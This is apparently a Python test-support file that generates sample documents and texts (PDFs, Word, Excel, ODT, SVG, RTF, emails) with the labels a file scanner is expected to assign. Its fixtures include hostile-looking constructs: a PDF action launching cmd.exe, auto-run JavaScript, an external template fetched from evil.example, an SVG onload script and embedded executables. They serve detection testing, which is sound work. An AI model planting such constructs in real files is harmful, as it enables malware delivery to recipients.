"""Documents and texts."""

from tests.support import file_documents as documents
from tests.support import file_pictures as pictures
from tests.support.file_sample import (
    ARCHIVE,
    DISGUISED,
    ENCRYPTED,
    EXECUTABLE,
    GPS,
    LOCATION,
    MACROS,
    NOISE,
    PAGE,
    PDF,
    PE,
    TEXT,
    TRAILING,
    UNSCANNABLE,
    VBA,
    WORD,
    Sample,
    sample,
)


def document_samples() -> list[Sample]:
    pdf, doc, xls = "application/pdf", "application/msword", "application/vnd.ms-excel"
    docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    docm, ole = "application/vnd.ms-word.document.macroenabled.12", "application/x-ole-storage"
    odt = "application/vnd.oasis.opendocument.text"
    script = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    packed = documents.pdf_stream(b"/Type /ObjStm /N 1 /First 4", b"4 0 " + script)
    attached = documents.pdf_stream(b"/Type /EmbeddedFile", PE)
    sheet = documents.workbook_stream((0x85, b"\0\0\0\0\0\1\1\0M"))
    plain_sheet = documents.workbook_stream((0x85, b"\0\0\0\0\0\0\1\0S"))
    locked_sheet = documents.workbook_stream((0x2F, b"\1\0"))
    locked = documents.make_ole({("EncryptionInfo",): b"x", ("EncryptedPackage",): b"x"})
    template = (
        b'<Relationships><Relationship Type="http://x/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    macro_types = "application/vnd.ms-word.document.macroEnabled.main+xml"
    renamed = "application/vnd.ms-office.vbaProject"
    make = documents.make_pdf
    return [
        sample("a.pdf", PDF, pdf, claimed="application/pdf"),
        sample("goto.pdf", make(catalog=b"/OpenAction [3 0 R /XYZ null null 0]"), pdf),
        sample("goto2.pdf", make(b"<< /S /GoTo /D [3 0 R /Fit] >>", catalog=b"/OpenAction 4 0 R"), pdf),
        sample("js.pdf", make(script, catalog=b"/OpenAction 4 0 R"), pdf, MACROS),
        sample("hex.pdf", make(b"<< /S /J#61vaScript /J#53 (x) >>"), pdf, MACROS),
        sample("objstm.pdf", make(packed), pdf, MACROS),
        sample("launch.pdf", make(b"<< /S /Launch /F (cmd.exe) >>"), pdf, MACROS),
        sample(
            "uri.pdf",
            make(b"<< /S /URI /URI (https://evil.example) >>", catalog=b"/OpenAction 4 0 R"),
            pdf,
            MACROS,
        ),
        sample(
            "locked.pdf",
            make(b"<< /Filter /Standard /V 2 >>", trailer=b"/Encrypt 4 0 R"),
            pdf,
            ENCRYPTED,
            UNSCANNABLE,
        ),
        sample("attached.pdf", make(attached), pdf, ARCHIVE, EXECUTABLE),
        sample("rating.pdf", make(b"<< /Title (rated AAA/AA by all) >>"), pdf),
        sample("more.pdf", PDF + b"secret", pdf, TRAILING),
        sample("cut.pdf", PDF[:-20], pdf, UNSCANNABLE),
        sample("a.doc", WORD, doc),
        sample(
            "macro.doc",
            documents.make_ole({("WordDocument",): documents.word_stream(), ("Macros", "VBA", "dir"): b"x"}),
            doc,
            MACROS,
        ),
        sample(
            "locked.doc",
            documents.make_ole({("WordDocument",): documents.word_stream(encrypted=True)}),
            doc,
            ENCRYPTED,
            UNSCANNABLE,
        ),
        sample("a.xls", documents.make_ole({("Workbook",): plain_sheet}), xls),
        sample("xlm.xls", documents.make_ole({("Workbook",): sheet}), xls, MACROS),
        sample("locked.xls", documents.make_ole({("Workbook",): locked_sheet}), xls, ENCRYPTED, UNSCANNABLE),
        sample(
            "package.doc",
            documents.make_ole(
                {
                    ("WordDocument",): documents.word_stream(),
                    ("ObjectPool", "_1", "\x01Ole10Native"): documents.native_stream(b"a.exe", PE),
                }
            ),
            doc,
            ARCHIVE,
            EXECUTABLE,
        ),
        sample("a.docx", documents.make_docx(), docx),
        sample("a.xlsx", documents.make_docx(), docx, DISGUISED),
        sample("a.docm", documents.make_docx({"word/vbaProject.bin": VBA}, macro_types), docm, MACROS),
        sample(
            "macro.docx",
            documents.make_docx({"word/vbaProject.bin": VBA}, macro_types),
            docm,
            MACROS,
            DISGUISED,
        ),
        sample("renamed.docx", documents.make_docx({"word/x.dat": b"x"}, renamed), docx, MACROS),
        sample(
            "template.docx", documents.make_docx({"word/_rels/settings.xml.rels": template}), docx, MACROS
        ),
        sample("program.docx", documents.make_docx({"word/embeddings/oleObject1.bin": PE}), docx, EXECUTABLE),
        sample(
            "picture.docx",
            documents.make_docx({"word/media/image1.jpg": pictures.make_jpeg(3, 2, (0xE1, GPS))}),
            docx,
            LOCATION,
        ),
        sample("locked.docx", locked, ole, ENCRYPTED, UNSCANNABLE),
        sample("a.odt", documents.make_odt(), odt),
        sample(
            "macro.odt", documents.make_odt({"Basic/Standard/Module1.xml": b"<script:module/>"}), odt, MACROS
        ),
        sample(
            "locked.odt",
            documents.make_odt(manifest=b"<manifest:encryption-data/>"),
            odt,
            ENCRYPTED,
            UNSCANNABLE,
        ),
    ]


def text_samples() -> list[Sample]:
    svg, rtf = b'<svg xmlns="http://www.w3.org/2000/svg"/>', b"{\\rtf1\\ansi cargo}"
    active = svg.replace(b"/>", b' onload="alert(1)"/>')
    korean = "화물이 부산에 도착했습니다. 내일 계약서를 보내겠습니다.\n".encode("cp949") * 8
    return [
        sample("a.txt", TEXT, "text/plain", claimed="text/plain"),
        sample("cp949.txt", korean, "text/plain"),
        sample("a.csv", b"ton,price\n1,2\n3,4\n", "text/csv"),
        sample("a.json", b'{"ton": 1}\n', "application/json", claimed="application/json"),
        sample("a.pdf", TEXT, "text/plain", DISGUISED),
        sample("a.png", TEXT, "text/plain", DISGUISED, claimed="image/png"),
        sample("page.html", b"<html><body>cargo</body></html>", "text/html"),
        sample("active.html", PAGE, "text/html", MACROS),
        sample("a.svg", svg, "image/svg+xml"),
        sample("active.svg", active, "image/svg+xml", MACROS),
        sample("a.rtf", rtf, "application/rtf"),
        sample("object.rtf", rtf.replace(b"cargo", b"{\\object\\objdata 0105}"), "application/rtf", MACROS),
        sample("a.eml", documents.make_mail(), "message/rfc822"),
        sample(
            "program.eml",
            documents.make_mail(("goods.pdf", PE)),
            "message/rfc822",
            ARCHIVE,
            EXECUTABLE,
            DISGUISED,
        ),
        sample("noise.dat", NOISE, "application/octet-stream", UNSCANNABLE),
        sample("noise.jpg", NOISE, "application/octet-stream", UNSCANNABLE, DISGUISED),
        sample("empty.txt", b"", "application/octet-stream"),
    ]
